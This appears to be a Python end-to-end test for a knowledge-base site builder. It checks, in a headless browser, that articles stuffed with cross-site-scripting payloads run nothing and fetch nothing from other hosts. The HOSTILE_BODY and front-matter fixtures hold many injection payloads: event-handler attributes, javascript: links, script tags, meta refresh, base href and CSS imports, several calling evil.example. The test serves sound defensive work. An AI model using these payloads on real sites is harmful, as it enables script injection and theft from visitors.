"""Hostile articles built into a real site and loaded in Chromium: nothing they hold runs,
pops up a dialog or makes the browser fetch from another host.

The checks refuse every construct here (tests/kb_builder/test_sanitize.py); this test
turns them off, so what it proves is that the build's sanitiser and the escaping of
front-matter values hold on their own.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from e2e_server import LiveServer
from starlette.applications import Starlette
from starlette.staticfiles import StaticFiles

from kb_builder.core.site import Site
from tests.conftest import article

# Each payload, if it ran, would call alert(), set window.__kbPwned or fetch evil.example.
RUN = "window.__kbPwned=1;alert(1);fetch('http://evil.example/ran')"
HOSTILE_TITLE = f'<img src=x onerror="{RUN}"></title><script>{RUN}</script>'
HOSTILE_APPLIES_TO = f'cPanel <img src=x onerror="{RUN}"> & WHM'
HOSTILE_BODY = f"""\
Intro <img src=x alt=x onerror="{RUN}"> and <b onmouseover="{RUN}">hover</b>.

<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>

[link](javascript:{RUN}) [ref][r] <a href="&#106;avascript:{RUN}">entity</a>

[r]: javascript:{RUN}

<object data="http://evil.example/o.swf"></object><embed src="http://evil.example/e.swf">

<form action="http://evil.example/f"><input name=q autofocus onfocus="{RUN}"></form>

<svg><a xlink:href="javascript:{RUN}"><text y="20">svg</text></a><script>{RUN}</script></svg>

<meta http-equiv="refresh" content="0;url=http://evil.example/meta">

<base href="http://evil.example/">

<style>@import url(http://evil.example/x.css);
body {{ background: url(http://evil.example/b.png) }}</style>

![remote](http://evil.example/p.png) <img alt="remote" src="//evil.example/q.png">

<details open ontoggle="{RUN}"><summary>More</summary>x</details>

<div markdown id="__config">{{"base": "http://evil.example/"}}</div>

<script>{RUN}</script>

## &lt;img src=x onerror="{RUN}"&gt; heading
"""


@pytest.fixture
def hostile_site(make_site: Any, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    monkeypatch.setattr(Site, "check", lambda self: [])
    site = make_site(
        {
            "email/hostile.md": article(
                json.dumps(HOSTILE_TITLE),  # JSON strings are YAML strings
                HOSTILE_BODY,
                summary=json.dumps(f'<svg/onload="{RUN}">'),
                tags="email, " + json.dumps(f'<img src=x onerror="{RUN}">'),
                extra_front="description: "
                + json.dumps(f'"><script>{RUN}</script>')
                + "\napplies_to: "
                + json.dumps(HOSTILE_APPLIES_TO),
            ),
            "email/quota.md": article("Mailbox quota", "See [the other](hostile.md)."),
            # No title in front matter: MkDocs takes the first heading's text as the title.
            "email/untitled.md": "---\nsummary: x\ntags: [email]\n---\n\n"
            f'# &lt;/title&gt;&lt;img src=x onerror="{RUN}"&gt; heading\n\nBody.\n',
            "tags.md": "---\ntitle: Tags\n---\n\n# Tags\n\n<!-- material/tags -->\n",
        },
        extra_config={
            "markdown_extensions": [
                "admonition",
                "attr_list",
                "md_in_html",
                "toc",
                "tables",
                "pymdownx.details",
            ]
        },
    )
    out = site.build()
    app = Starlette()
    app.mount("/", StaticFiles(directory=out, html=True))
    with LiveServer(app) as server:
        yield server.url


def test_hostile_articles_run_nothing_and_fetch_nothing_from_other_hosts(
    hostile_site: str, page: Any
) -> None:
    dialogs: list[str] = []
    errors: list[str] = []
    outside: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: errors.append(str(e)))

    def route(r: Any) -> None:
        host = urlsplit(r.request.url).hostname
        if host in ("127.0.0.1", "localhost"):
            r.continue_()
        else:
            outside.append(r.request.url)
            r.abort()

    page.route("**/*", route)
    for path in (
        "email/hostile/",
        "email/untitled/",
        "email/",
        "tags/",
        "",
        "email/quota/",
        "no-such-page/",
    ):
        page.goto(f"{hostile_site}/{path}", wait_until="load")
        page.wait_for_timeout(300)
        page.mouse.move(200, 300)
        for element in page.query_selector_all("article a, article b, article summary"):
            element.hover()
        assert page.evaluate("window.__kbPwned === undefined"), path
        assert page.url.startswith(hostile_site), page.url  # no refresh or base redirect
    assert dialogs == []
    assert outside == []
    assert [e for e in errors if "kbPwned" in e or "evil" in e] == []
    page.goto(f"{hostile_site}/email/hostile/")
    # The title is shown as the text the author wrote, everywhere Material prints it.
    assert page.title() == f"{HOSTILE_TITLE} - Test KB"
    assert page.inner_text("article h1") == HOSTILE_TITLE
    # ... and in the breadcrumb, the facts under the title and the section's sidebar.
    assert page.inner_text(".kb-breadcrumb [aria-current=page]") == HOSTILE_TITLE
    assert page.inner_text(".kb-facts").startswith(f"Applies to: {HOSTILE_APPLIES_TO}")
    page.goto(f"{hostile_site}/email/quota/")
    assert HOSTILE_TITLE in page.locator(".kb-section-nav").text_content()
    page.goto(f"{hostile_site}/email/untitled/")
    assert page.title().startswith(f'</title><img src=x onerror="{RUN}"> heading')


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def test_the_hostile_page_holds_no_element_or_attribute_of_the_payload(
    hostile_site: str, page: Any
) -> None:
    text = page.goto(f"{hostile_site}/email/hostile/").text()
    parser = _Elements()
    parser.feed(text)
    content = _Elements()  # Material's own header has a search <form>: look at the article
    content.feed(text[text.index("<article") : text.index("</article>")])
    tags = [tag for tag, _ in content.found]
    for banned in ("iframe", "object", "embed", "form", "input", "base", "svg", "style"):
        assert banned not in tags, banned
    assert "meta" not in tags and "script" not in tags
    for tag, attrs in parser.found:
        if ("name", "description") in attrs or ("name", "kb:title") in attrs:
            # Both hold the payload as escaped attribute text (the page's description,
            # the article's title for the ticket link): checked below.
            continue
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src", "srcset", "action", "data", "xlink:href", "content"):
                assert "javascript:" not in (value or "") and "evil.example" not in (value or "")
            assert not (name == "id" and value == "__config" and tag != "script"), tag
    description = [dict(a) for t, a in parser.found if t == "meta" and ("name", "description") in a]
    assert description == [{"name": "description", "content": f'"><script>{RUN}</script>'}]
    titles = [dict(a) for t, a in parser.found if t == "meta" and ("name", "kb:title") in a]
    assert len(titles) == 1 and "<script>" in titles[0]["content"]  # as text, unescaped once
